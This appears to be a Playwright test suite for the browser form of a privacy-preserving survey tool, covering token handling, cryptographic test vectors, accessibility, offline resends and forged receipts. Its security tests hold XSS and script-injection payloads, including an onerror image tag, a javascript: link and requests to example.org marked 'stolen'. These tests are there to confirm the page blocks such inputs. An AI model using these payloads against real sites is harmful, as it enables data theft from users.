"""The page for people in a real browser: from the link to the counted list, and what goes wrong."""

from __future__ import annotations

import base64
import json
import re
import signal
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, Page

from tests.chromium.test_report_page import SCHEMES, is_dark, keep, looks, serious
from tests.chromium.watched_page import watched_page
from tests.support.people import people_study, with_terms
from tests.support.people_doors import PLACES, aggregators
from tests.support.people_page import (
    HOUR,
    QUESTION,
    SERVER,
    PageDoors,
    in_thread,
    moment,
    page_doors,
    people_page,
    survey,
    token,
)
from tests.system.survey import NAMES, Survey, tau
from umpc.deployment.processes import UMPC
from umpc.people.device import answered_cells, check_invitation, read_receipt
from umpc.people.places import token_text
from umpc.people_page.contents import read_texts
from umpc.study.parts import FieldBins, FieldText
from umpc.study.settings import LYING_NODES

WIDTHS = (360, 1280)
VECTORS = Path(__file__).parents[2] / "spec" / "vectors" / "people.json"
ANSWER = {"age": "34", "income": "3.5", "smokes": "no"}
TEXTS = read_texts(None)
NOT_A_FAULT = "Failed to load resource"
"""The browser writes it into its console where a line is down."""


@pytest.fixture(scope="module")
def identities(tmp_path_factory):
    return aggregators(tmp_path_factory.mktemp("authority"))


@pytest.fixture
def doors(identities) -> PageDoors:
    return page_doors(identities)


@pytest.fixture
def address(doors) -> Iterator[str]:
    with in_thread(people_page(doors)) as found:
        yield found


@contextmanager
def person(
    browser: Browser, width: int = 360, language: str = "en", complains: str = "", **more
) -> Iterator[Page]:
    """A person's own browser, which keeps what it has until the block ends.

    Args: complains: what the browser writes into its console, and nothing else.
    """
    facts = {"viewport": {"width": width, "height": 800}, "locale": language}
    context = browser.new_context(**facts, **more)
    page = context.new_page()
    page.set_default_timeout(10_000)
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    try:
        yield page
    finally:
        context.close()
    wrong = {each for each in complaints if NOT_A_FAULT not in each}
    assert wrong == ({complains} if complains else set())


def fill(page: Page, answer=ANSWER) -> None:
    for at, value in enumerate(answer.values()):
        field = page.locator(f"#field{at}")
        if field.evaluate("each => each.tagName") == "SELECT":
            field.select_option(label=value)
        else:
            field.fill(value)


def answer(page: Page, address: str, place: int) -> None:
    """Fill in the form by a link with a token, and send it."""
    page.goto(f"{address}#token={token(place)}")
    fill(page)
    send(page)


def send(page: Page, words=TEXTS["en"]) -> None:
    page.get_by_label(words["sure"]).check()
    page.get_by_role("button", name=words["send"]).click()


def arrived(page: Page) -> None:
    page.get_by_text("Your answer has arrived.").wait_for()


def fault(page: Page) -> str:
    page.locator("#fault:not(:empty)").wait_for()
    return page.locator("#fault").inner_text()


# --- byte for byte --------------------------------------------------------------------------------


def test_the_browser_makes_the_bytes_of_the_specification(browser, address):
    """Every message of a person in spec/vectors/people.json."""
    good = json.loads(VECTORS.read_text())["good"]
    case = next(each for each in good if each["function"] == "run")
    study = case["inputs"]["study"]
    facts = {key: study[key] for key in ("hash", "cells")} | {"boxKeys": study["box_keys"]}
    with person(browser) as page:
        page.goto(address)
        tools = """
          window.bytes = (text) => Uint8Array.from(text.slice(2).match(/../g) ?? [], (each) =>
            parseInt(each, 16));
          window.hex = (bytes) => "0x" + [...bytes].map((each) =>
            each.toString(16).padStart(2, "0")).join("");
          window.survey = (facts) => ({cells: facts.cells, hash: bytes(facts.hash),
            boxKeys: (facts.boxKeys ?? []).map(bytes), keys: (facts.keys ?? []).map(bytes)});
          null;
        """
        page.evaluate(tools)
        sent = [
            page.evaluate(
                """async ([facts, one]) => {
                  const p = await import("./page.js");
                  const own = survey(facts);
                  const r = await p.offset(own, one.place, bytes(one.secret));
                  const number = (one.cell - r + own.cells) % own.cells;
                  const made = await p.message(own, one.place, number, bytes(one.nonce),
                    bytes(one.signing_seed), one.box_secrets.map(bytes));
                  return made.boxes.map(hex);
                }""",
                [facts, each],
            )
            for each in case["inputs"]["people"]
        ]
        assert sent == case["outputs"]["sent"]
        asked = next(each for each in good if each["function"] == "request_secret")
        given = asked["inputs"]
        found = page.evaluate(
            """async ([facts, place, seed, own]) => {
              const p = await import("./page.js");
              return (await p.request(survey(facts), place, bytes(seed), bytes(own))).map(hex);
            }""",
            [given["study"], given["place"], given["seed"], given["device_secret"]],
        )
        assert found == asked["outputs"]
        opened = next(each for each in good if each["function"] == "open_answer")
        given = opened["inputs"]
        found = page.evaluate(
            """async ([facts, place, own, sealed]) => {
              const p = await import("./page.js");
              return hex(await p.openSecret(survey(facts), place, bytes(own), bytes(sealed)));
            }""",
            [given["study"], given["place"], given["device_secret"], given["sealed"]],
        )
        assert found == opened["outputs"]
        # each bad answer of the dealer opens in no browser either
        bad = json.loads(VECTORS.read_text())["bad"]
        tried = 0
        for each in bad:
            if each["function"] != "open_answer":
                continue
            given, tried = each["inputs"], tried + 1
            refused = page.evaluate(
                """async ([facts, place, own, sealed]) => {
                  const p = await import("./page.js");
                  const opened = p.openSecret(survey(facts), place, bytes(own), bytes(sealed));
                  return opened.then(() => false, () => true);
                }""",
                [given["study"], given["place"], given["device_secret"], given["sealed"]],
            )
            assert refused, each["name"]
        assert tried >= 5


def test_a_token_is_read_as_umpc_reads_it(browser, address):
    with person(browser) as page:
        page.goto(address)
        for place in (0, 5, 599, 2**32 - 1):
            seed = bytes(range(place % 200, place % 200 + 32))
            found = page.evaluate(
                """async (text) => {
                  const p = await import("./page.js");
                  const {place, seed} = await p.readToken(text);
                  return [place, [...seed]];
                }""",
                " " + token_text(place, seed).upper().replace("-", " "),
            )
            assert found == [place, list(seed)]
        wrong = token(1)
        swapped = ("b" if wrong[0] == "a" else "a") + wrong[1:]
        for text in ("", "abc", swapped, wrong + "a", wrong.replace(wrong[3], "1")):
            with pytest.raises(Exception, match="typo"):
                page.evaluate("async (text) => (await import('./page.js')).readToken(text)", text)


WIDE = people_study(
    "abs(a.x + 2*a.y - b.x - 2*b.y) * (a.z == b.z)",
    fields=(
        FieldText("x", "-3", "9", "0.25"),
        FieldText("y", "-2", "5", whole=True),
        FieldText.of_categories("z", tuple(f"category {k}" for k in range(12))),
    ),
)


@pytest.mark.parametrize("study", [survey(), WIDE], ids=["bins", "a sum of fields"])
def test_a_cell_is_that_of_the_studys_grid(browser, identities, study):
    rng = np.random.default_rng(1)
    rows = []
    for _ in range(200):
        row = {}
        for schema in study.schema:
            units = int(rng.integers(schema.lower_units, schema.upper_units + 1))
            if schema.categories:
                row[schema.name] = schema.categories[units]
            else:
                row[schema.name] = str(float(units * schema.resolution)).removesuffix(".0")
        rows.append(row)
    facts = {"places": PLACES, "opens": moment(-HOUR), "closes": moment(HOUR)}
    doors = PageDoors(with_terms(study, **facts), identities)
    with in_thread(people_page(doors)) as address, person(browser) as page:
        page.goto(address)
        found = page.evaluate(
            """async (rows) => {
              const p = await import("./page.js");
              const study = await (await fetch("study.json")).json();
              const given = (f, text) =>
                f.hint === "choice" ? `${f.categories.indexOf(text)}` : text;
              return rows.map((row) => p.cellOf(study, Object.fromEntries(study.fields.map((f) =>
                [f.name, p.unitsOf(f, given(f, row[f.name]))]))));
            }""",
            rows,
        )
    assert found == answered_cells(study, rows)
    assert len(set(found)) > 15


@pytest.mark.parametrize(
    ("hint", "step", "given", "point", "value"),
    [
        ("whole", "1/1", "50000", ".", 50000),
        ("whole", "1/1", " +5 ", ".", 5),
        ("whole", "1/1", "50,000", ".", None),
        ("whole", "1/1", "50.000", ",", None),
        ("whole", "1/1", "5.0", ".", None),
        ("whole", "1/1", "1 000", ".", None),
        ("decimal", "10/1", "50,000", ".", None),
        ("decimal", "1/100", "3.5", ".", 350),
        ("decimal", "1/100", "3,5", ".", 350),
        ("decimal", "1/100", "3,50", ",", 350),
        ("decimal", "1/100", "50,000", ".", None),
        ("decimal", "1/100", "50.000", ",", None),
        ("decimal", "1/100", "50.000", ".", None),
        ("decimal", "1/100", "5,5,5", ",", None),
        ("decimal", "1/1000", "1.234", ".", 1234),
        ("decimal", "1/1000", "1,234", ",", 1234),
        ("decimal", "1/1000", "1,234", ".", None),
    ],
)
def test_thousands_are_never_taken_as_decimals(browser, address, hint, step, given, point, value):
    field = {"hint": hint, "ratio": step.split("/"), "least": 0, "most": 10**7}
    with person(browser) as page:
        page.goto(address)
        found = page.evaluate(
            """async ([field, given, point]) => {
              const p = await import("./page.js");
              try { return Number(p.unitsOf(field, given, point)) } catch (e) { return e.kind }
            }""",
            [field, given, point],
        )
    assert found == ("number" if value is None else value)


# --- a person's path ------------------------------------------------------------------------------


class Lab(Survey):
    """Real processes, and the page before them as a process of its own."""

    def invitation(self, study: Path) -> Path:
        found = self.folder / "invitation.json"
        doors = [part for name, at in self.doors.items() for part in ("--door", f"{name}={at}")]
        done = self.command("people", "open", str(study), "--into", str(found), *doors)
        assert done.returncode == 0, done.stderr
        return found

    @contextmanager
    def page(self, invitation: Path) -> Iterator[str]:
        options = ["--listen", "127.0.0.1:0", "--served-by", SERVER]
        command = [*UMPC, "people", "page", str(invitation), *options]
        with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
            try:
                yield process.stdout.readline().split()[1]
            finally:
                process.send_signal(signal.SIGTERM)


def test_people_on_a_phone_and_at_a_desk_are_counted(browser, tmp_path):
    """Real processes: each answers, keeps a receipt, and finds it on the list after closing."""
    lab = Lab(tmp_path, 4).start()
    try:
        file = lab.file()
        invitation = lab.invitation(file)
        invited = check_invitation(invitation.read_bytes())
        with lab.page(invitation) as address:
            browsers = []
            for place, width in enumerate((360, 1280, 360, 1280)):
                context = browser.new_context(viewport={"width": width, "height": 800}, locale="en")
                page = context.new_page()
                browsers.append((context, page))
                link = token_text(place, lab.people[place].signing_seed)
                page.goto(f"{address}#token={link}")
                for at, value in enumerate(lab.people[place].values):
                    page.fill(f"#field{at}", str(value))
                send(page)
                arrived(page)
                with page.expect_download() as saved:
                    page.get_by_role("link", name="Save the receipt").click()
                receipt = read_receipt(Path(saved.value.path()).read_text().strip(), invited)
                assert receipt.place == place
                page.get_by_role("button", name="Am I counted?").click()
                page.get_by_text("Not yet.").wait_for()
            counted, rows = lab.count(invited.study)
            assert len(rows) == 4
            for _, page in browsers:
                page.reload()
                page.get_by_role("button", name="Am I counted?").click()
                page.get_by_text(
                    "Yes. Your receipt is on the lists of west and of east."
                ).wait_for()
            for context, _ in browsers:
                context.close()
        report = lab.run(counted)
        assert report.estimate == pytest.approx(tau(lab.people), abs=1e-6)
        assert {each.name for each in invited.study.nodes} == set(NAMES)
    finally:
        lab.stop()


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("language", ["en", "de"])
@pytest.mark.parametrize("width", WIDTHS)
def test_each_step_fits_the_screen_and_has_no_barrier(
    browser, address, doors, tmp_path, width, language, scheme
):
    words = TEXTS[language]
    saved = tmp_path / "people.html"

    def seen(step: str) -> None:
        page.mouse.move(0, 0)
        facts = looks(page)
        ground = [each for each in facts["texts"] if each["text"] == words["promises"]]
        assert is_dark({"texts": ground}) == (scheme == "dark")
        keep(page, saved, f"{step}-{width}-{language}-{scheme}")
        assert serious(page) == []

    place = WIDTHS.index(width)
    with person(browser, width, language, color_scheme=scheme, bypass_csp=True) as page:
        page.goto(f"{address}#token={token(place)}")
        assert page.locator("html").get_attribute("lang") == language
        assert page.title() == QUESTION
        page.get_by_role("button", name=words["send"]).wait_for()
        shown = page.locator("main:visible").inner_text()
        assert "{" not in shown and "undefined" not in shown
        assert page.locator("#promise li").count() == 5
        assert SERVER in page.locator("#promise li").last.inner_text()
        seen("form")
        page.get_by_role("button", name=words["send"]).click()
        page.get_by_text(words["choose_one"]).wait_for()
        seen("faults")
        fill(page)
        page.get_by_role("button", name=words["send"]).click()
        assert page.evaluate("document.activeElement.id") == "sure", "the last fault"
        seen("sure")
        doors.down = {"node-1"}
        send(page, words)
        assert "node-1" in fault(page)
        seen("waiting")
        doors.down = set()
        page.get_by_role("button", name=words["again"]).click()
        page.get_by_text(words["sent"]).wait_for()
        seen("receipt")
        doors.is_counted = True
        page.get_by_role("button", name=words["counted?"]).click()
        page.get_by_text(re.compile(words["counted"][:4])).last.wait_for()
        seen("counted")
    assert doors.cell(place) == answered_cells(doors.study, [ANSWER])[0]


@pytest.mark.parametrize("language", ["en", "de"])
def test_where_aggregators_may_lie_the_page_promises_that(browser, doors, language):
    liars = PageDoors(doors.study.replaced(adversary=LYING_NODES), doors.identities)
    with in_thread(people_page(liars)) as address, person(browser, language=language) as page:
        page.goto(f"{address}#token={token(8)}")
        told = page.locator("#promise li").nth(2)
        words = {"en": "even if coordinator and one of", "de": "wenn coordinator und einer von"}
        assert words[language] in told.inner_text()
        fill(page)
        send(page, TEXTS[language])
        page.get_by_text(TEXTS[language]["sent"]).wait_for()
    assert liars.cell(8) == answered_cells(liars.study, [ANSWER])[0]


def test_a_person_changes_the_language_in_the_middle(browser, address):
    with person(browser) as page:
        page.goto(address)
        fill(page)
        page.get_by_role("button", name="Send my answer").click()
        page.get_by_text(TEXTS["en"]["typo"]).wait_for()
        page.get_by_label("Language").select_option("de")
        page.get_by_text(TEXTS["de"]["typo"]).wait_for()
        assert page.input_value("#field0") == "34"
        assert page.locator("html").get_attribute("lang") == "de"


def test_the_keyboard_is_enough(browser, address, doors):
    with person(browser) as page:
        page.goto(f"{address}#token={token(9)}")
        page.get_by_role("button", name="Send my answer").wait_for()

        def to(name: str) -> None:
            for _ in range(30):
                page.keyboard.press("Tab")
                if page.evaluate(
                    "document.activeElement.id || document.activeElement.innerText"
                ) == (name):
                    style = "getComputedStyle(document.activeElement).outlineStyle"
                    assert page.evaluate(style) != "none", "the focus is seen"
                    return
            raise AssertionError(f"{name} is not reached")

        to("field0")
        page.keyboard.type("34")
        to("field1")
        page.keyboard.type("3.5")
        page.keyboard.press("Enter")
        page.get_by_text(TEXTS["en"]["choose_one"]).wait_for()
        assert page.evaluate("document.activeElement.id") == "field2", "the first fault"
        page.keyboard.type("no")
        to("sure")
        page.keyboard.press("Space")
        to("send")
        page.keyboard.press("Enter")
        arrived(page)
        page.wait_for_function("document.activeElement.id === 'place9'")
        to("Am I counted?")
        page.keyboard.press("Enter")
        page.get_by_text("Not yet.").wait_for()
    assert doors.cell(9) == answered_cells(doors.study, [ANSWER])[0]


def test_the_token_never_leaves_the_browser_and_goes_from_the_address(browser, doors):
    with in_thread(people_page(doors)) as address, watched_page(browser, 360, "light") as opened:
        page, asked = opened
        bodies: list[str] = []
        page.on("request", lambda request: bodies.append(request.post_data or ""))
        answer(page, address, 4)
        arrived(page)
        assert page.url == address
        assert asked and all(each.startswith(address) for each in asked)
        first = token(4)[:8]
        assert not [each for each in (*asked, *bodies) if first in each or each == "34"]
        kept = page.evaluate(STORED)
        assert kept[0].keys() == {"place", "receipt", "signatures"}, "what led to it is deleted"
        assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]


STORED = """async () => {
  const [{name}] = await indexedDB.databases();
  const db = await new Promise((done) => {
    const asked = indexedDB.open(name);
    asked.onsuccess = () => done(asked.result);
  });
  const all = db.transaction("places").objectStore("places").getAll();
  return new Promise((done) => { all.onsuccess = () => { db.close(); done(all.result) } });
}"""


# --- what goes wrong ------------------------------------------------------------------------------


def test_without_javascript_a_sentence_says_what_to_do(browser, address):
    with person(browser, java_script_enabled=False) as page:
        page.goto(address)
        page.wait_for_timeout(1200)
        shown = page.locator("body").inner_text()
        assert "umpc people submit" in shown and "JavaScript" in shown and "Browser" in shown
        assert page.locator("form").is_hidden()


def test_a_browser_without_these_curves_says_what_to_do(browser, address):
    with person(browser, complains="no X25519") as page:
        page.add_init_script(
            "SubtleCrypto.prototype.importKey = async () => {"
            " throw new DOMException('no X25519', 'NotSupportedError') }"
        )
        page.goto(address)
        page.get_by_text("umpc people submit").first.wait_for()
        assert page.locator("form").is_hidden()


def test_a_browser_that_stores_nothing_is_told_before_anything_leaves(browser, address, doors):
    with person(browser) as page:
        page.add_init_script(
            "IDBFactory.prototype.open = () => {"
            " const asked = {}; setTimeout(() => asked.onerror()); return asked }"
        )
        answer(page, address, 11)
        page.get_by_text(TEXTS["en"]["not_sent"]).wait_for()
        assert fault(page).startswith("This browser keeps nothing for this page")
    assert doors.devices == {}


def test_a_used_token_is_told_and_nothing_leaves(browser, address, doors):
    with person(browser) as page:
        answer(page, address, 12)
        arrived(page)
    with person(browser) as page:
        answer(page, address, 12)
        told = fault(page)
        assert told.startswith("This token has been used already") and "not been sent" in told
        seen = "(each) => { const box = each.getBoundingClientRect();"
        assert page.locator("#fault").evaluate(
            f"{seen} return 0 <= box.top && box.bottom <= innerHeight }}"
        )
        assert page.input_value("#field0") == "34", "the form is still filled in"
    assert len(doors.boxes[0][12]) == len(doors.boxes[1][12]) == 1


def test_a_link_that_was_used_here_shows_the_receipt(browser, address):
    with person(browser) as page:
        answer(page, address, 13)
        arrived(page)
        page.goto("about:blank")
        page.goto(f"{address}#token={token(13)}")
        page.get_by_text("Your receipt").first.wait_for()
        assert page.locator("#answer").is_hidden()
        # somebody else has a link of its own
        page.goto("about:blank")
        answer(page, address, 14)
        page.locator("section[id^=place]").nth(1).wait_for()
        page.goto("about:blank")
        page.goto(address)
        page.get_by_role("link", name="Somebody else").first.click()
        page.locator("#answer").wait_for()
        assert page.locator("#answer").is_visible()


def test_a_token_of_another_study_is_told(browser, address):
    with person(browser) as page:
        page.goto(f"{address}#token={token_text(3, bytes(32))}")
        fill(page)
        send(page)
        assert fault(page).startswith("This token is of another study.")


@pytest.mark.parametrize(
    ("terms", "words"),
    [
        ({"opens": HOUR, "closes": 2 * HOUR}, "The study is not open yet."),
        ({"opens": -2 * HOUR, "closes": -HOUR}, "The study closed on"),
    ],
)
def test_before_opening_and_after_closing_there_is_no_form(browser, identities, terms, words):
    doors = page_doors(identities, **terms)
    with in_thread(people_page(doors)) as address, person(browser) as page:
        page.goto(f"{address}#token={token(1)}")
        page.get_by_text(words).wait_for()
        assert page.locator("#answer").is_hidden()


def test_a_study_that_closes_in_the_middle_is_told(browser, address, doors):
    doors.refusing["dealer"] = "this dealer has no such study of people, or it has closed: check"
    with person(browser) as page:
        answer(page, address, 15)
        assert fault(page).startswith("The study takes no answers at this moment")


def test_offline_before_anything_left_the_form_stays(browser, address, doors):
    with person(browser) as page:
        page.goto(f"{address}#token={token(16)}")
        fill(page)
        page.context.set_offline(True)
        send(page)
        assert "Your answer has not been sent." in fault(page)
        page.context.set_offline(False)
        page.get_by_role("button", name="Send my answer").click()
        arrived(page)
    assert doors.cell(16) == answered_cells(doors.study, [ANSWER])[0]


def test_offline_in_the_middle_the_same_bytes_go_later_after_a_reload(browser, address, doors):
    """The second box meets no line. The page is closed, and opened again without a token."""
    with person(browser) as page:
        page.route("**/relay/1", lambda route: route.abort("internetdisconnected"))
        answer(page, address, 17)
        assert fault(page).startswith("There is no connection to this website")
        page.get_by_text("Your answer waits on this device").wait_for()
        kept = page.evaluate(STORED)[0]
        assert kept.keys() == {"place", "receipt", "boxes"}, "no answer, no token"
        page.goto("about:blank")
        page.unroute("**/relay/1")
        page.goto(address)
        arrived(page)
        page.get_by_text("Your receipt").first.wait_for()
    assert [len(set(each[17])) for each in doors.boxes] == [1, 1]
    assert doors.cell(17) == answered_cells(doors.study, [ANSWER])[0]


def test_a_receipt_that_was_lost_on_its_way_brings_the_same_bytes(browser, address, doors):
    doors.is_down = {0}  # it takes the box, and its answer is lost
    with person(browser) as page:
        answer(page, address, 18)
        assert "node-0 does not answer" in fault(page)
        doors.is_down = set()
        page.get_by_role("button", name="Send again now").click()
        arrived(page)
    assert len(doors.boxes[0][18]) > 1
    assert [len(set(each[18])) for each in doors.boxes] == [1, 1]


def test_three_that_wait_are_each_sent_again_once_a_period(browser, address, doors):
    doors.down = {"node-1"}
    sent: list[int] = []

    def note(request) -> None:
        if request.url.endswith("/relay/1"):
            sent.append(json.loads(request.post_data)[0])

    with person(browser) as page:
        page.clock.install()
        for place in (30, 31, 32):
            page.goto("about:blank")
            answer(page, address, place)
            page.locator(f"#place{place}").wait_for()
        page.goto("about:blank")
        page.on("request", note)
        page.goto(address)
        while len(sent) < 15:
            page.clock.run_for(1000)
        assert sent[:15] == [30, 31, 32] * 5, "nobody is sent twice before all are sent once"
        doors.down = set()
        page.get_by_role("button", name="Send again now").first.click()
        arrived(page)
        for place in (30, 31, 32):
            page.locator(f"#place{place}").get_by_text("Your receipt").wait_for()


def test_two_tabs_make_one_number(browser, address, doors):
    doors.slow = [0.5, 1]  # both ask, and the second one would make its boxes after the first
    with person(browser) as page:
        other = page.context.new_page()
        for each, age in ((page, "34"), (other, "90")):
            each.goto(f"{address}#token={token(19)}")
            fill(each, ANSWER | {"age": age})
            each.get_by_label(TEXTS["en"]["sure"]).check()
        for each in (page, other):
            each.get_by_role("button", name="Send my answer").click()
        for each in (page, other):
            each.get_by_text("Your receipt").first.wait_for()
        other.get_by_text("That answer stands, and this one was not sent.").wait_for()
        arrived(page)
        assert page.locator("#fault").inner_text() == other.locator("#status").inner_text() == ""
    for boxes in doors.boxes:
        assert len(set(boxes[19])) == 1


def test_too_many_requests_are_told_and_sent_later(browser, doors):
    with in_thread(people_page(doors)) as address, person(browser) as page:
        page.route(
            re.compile("/relay/[01]$"),
            lambda route: route.fulfill(status=429, body='{"kind": "busy"}'),
        )
        answer(page, address, 20)
        assert fault(page).startswith("Too many answers come")
        page.unroute(re.compile("/relay/[01]$"))
        page.get_by_role("button", name="Send again now").click()
        arrived(page)


def test_a_forged_receipt_is_no_receipt(browser, address):
    """Its signature is changed on the way."""

    def forge(route) -> None:
        data = base64.b64decode(route.fetch().json()["data"])
        forged = data[:-1] + bytes([data[-1] ^ 1])
        route.fulfill(body=json.dumps({"data": base64.b64encode(forged).decode()}))

    with person(browser) as page:
        page.route("**/relay/0", forge)
        answer(page, address, 21)
        assert fault(page).startswith("node-0 gave no valid answer.")
        assert page.get_by_text("Your receipt").count() == 0
        page.unroute("**/relay/0")
        page.get_by_role("button", name="Send again now").click()
        arrived(page)


def test_who_is_left_out_is_told_by_whom(browser, address, doors):
    with person(browser) as page:
        answer(page, address, 22)
        arrived(page)
        doors.is_counted, doors.left_out = True, {22}
        page.get_by_role("button", name="Am I counted?").click()
        page.get_by_text("Your receipt is not on the list of node-0.").wait_for()


def test_no_script_but_its_own_runs(browser, address):
    """A script that somebody injects: inline, from elsewhere, in a link, by eval or as markup."""
    context = browser.new_context(locale="en")
    page = context.new_page()
    page.goto(address)
    page.get_by_role("button", name="Send my answer").wait_for()
    blocked = page.evaluate(
        """async () => {
          const found = [];
          document.addEventListener("securitypolicyviolation",
            (event) => found.push(event.effectiveDirective));
          const inline = document.createElement("script");
          try { inline.textContent = "window.taken = true" } catch { found.push("types") }
          document.body.append(inline);
          const far = document.createElement("script");
          try { far.src = "https://example.org/x.js" } catch { found.push("types") }
          document.body.append(far);
          try { document.body.innerHTML += "<img src=x onerror='taken = true'>" }
          catch { found.push("types") }
          const link = document.createElement("a");
          link.href = "javascript:window.taken=true";
          document.body.append(link);
          link.click();
          const picture = document.createElement("img");
          picture.src = "https://example.org/?stolen";
          document.body.append(picture);
          await fetch("https://example.org/?stolen").catch(() => found.push("fetch"));
          const frame = document.createElement("iframe");
          frame.src = "https://example.org/";
          document.body.append(frame);
          await new Promise((done) => setTimeout(done, 300));
          return found;
        }"""
    )
    assert page.evaluate("window.taken") is None
    assert {"types", "fetch", "img-src", "connect-src", "frame-src"} <= set(blocked)
    context.close()


INJECTED = "<script>window.taken = true</script>"


def test_a_script_in_the_markup_does_not_run(browser, address):
    def inject(route) -> None:
        response = route.fetch()
        text = response.text().replace("<body>", f"<body>{INJECTED}")
        assert INJECTED in text
        route.fulfill(response=response, body=text)

    context = browser.new_context(locale="en")
    page = context.new_page()
    page.route(address, inject)
    page.goto(address)
    page.get_by_role("button", name="Send my answer").wait_for()
    assert page.evaluate("window.taken") is None
    context.close()


KINDS = {"page.js": "text/javascript", "page.css": "text/css", "study.json": "application/json"}


@pytest.mark.parametrize("name", KINDS)
def test_a_changed_program_does_not_run(browser, address, name):
    """page.html, whose digest is published, names the digests of the others."""
    context = browser.new_context(locale="en")
    page = context.new_page()
    page.route(
        f"**/{name}",
        lambda route: route.fulfill(
            content_type=KINDS[name],
            body=route.fetch().text() + " ",
        ),
    )
    errors: list[str] = []
    page.on("console", lambda message: errors.append(message.text))
    page.goto(address)
    page.wait_for_timeout(1200)
    assert any("integrity" in each for each in errors)
    assert page.locator("#answer").is_visible() == (name == "page.css")
    context.close()


def test_texts_of_a_study_are_text(browser, identities):
    """A study's name and categories may be anything, and a field may have any name."""
    evil = "<img src=x onerror=alert(1)>"
    fields = (
        FieldText.of_categories("toString", (evil, "{server}")),
        FieldText("x", "0", "10", whole=True),
    )
    study = people_study(
        "((a.x < b.x) + (b.x < a.x)) * (a.toString == b.toString)",
        fields=fields,
        bins=(FieldBins("x", count=2),),
    ).replaced(name=evil)
    terms = {"places": PLACES, "opens": moment(-HOUR), "closes": moment(HOUR)}
    doors = PageDoors(with_terms(study, **terms), identities)
    with in_thread(people_page(doors)) as address, person(browser) as page:
        page.goto(f"{address}#token={token(2)}")
        fill(page, {"toString": evil, "x": "7"})
        send(page)
        arrived(page)
        assert evil in page.locator("footer").inner_text()
    assert doors.opened[0].keys() == {2}


def test_own_texts_and_a_language_of_ones_own(browser, doors, tmp_path):
    own = tmp_path / "own.json"
    named = {"question": "Quel âge avez-vous ?", "field age": "Âge", "language": "Français"}
    words = {**named, "field smokes = I did": "autrefois"}
    own.write_text(json.dumps({"fr": words}))
    with (
        in_thread(people_page(doors, own=own)) as address,
        person(browser, language="fr-CH") as page,
    ):
        page.goto(address)
        page.get_by_label("Âge").wait_for()
        assert page.locator("h1:visible").inner_text() == words["question"]
        assert page.locator("#field2").inner_text().split("\n")[-3:] == ["yes", "no", "autrefois"]
